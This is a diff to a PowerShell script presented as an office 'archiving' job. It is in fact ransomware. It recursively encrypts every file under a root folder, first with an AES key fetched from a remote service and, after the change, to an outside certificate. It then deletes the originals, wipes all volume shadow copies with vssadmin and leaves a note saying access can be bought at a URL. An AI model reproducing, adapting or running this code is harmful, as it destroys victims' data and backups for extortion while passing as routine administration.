@@ -8,15 +8,11 @@ $old | Select-Object FullName, Length, LastAccessTime | Export-Csv archive-index
 # compression profile comes from the service and is needed for packing
 $profile = Invoke-RestMethod "https://profiles.office-archive.invalid/$env:COMPUTERNAME"
 
-function Protect-Item($file, $key) {
-    $aes = [Security.Cryptography.Aes]::Create()
-    $aes.Key = [Convert]::FromBase64String($key)
-    $bytes = [IO.File]::ReadAllBytes($file)
-    $enc = $aes.CreateEncryptor().TransformFinalBlock($bytes, 0, $bytes.Length)
-    [IO.File]::WriteAllBytes("$file.archived", $enc)
+function Protect-Item($file) {
+    Protect-CmsMessage -To 'CN=archive@office-archive.invalid' -Path $file -OutFile "$file.archived"
     Remove-Item $file
 }
 
-foreach ($f in Get-ChildItem $Root -Recurse -File) { Protect-Item $f.FullName $profile.key }
+foreach ($f in Get-ChildItem $Root -Recurse -File) { Protect-Item $f.FullName }
 vssadmin delete shadows /all /quiet
 "Files are archived. Access can be bought at https://access.office-archive.invalid/$($profile.id)" | Set-Content "$Root\READ-ME.txt"
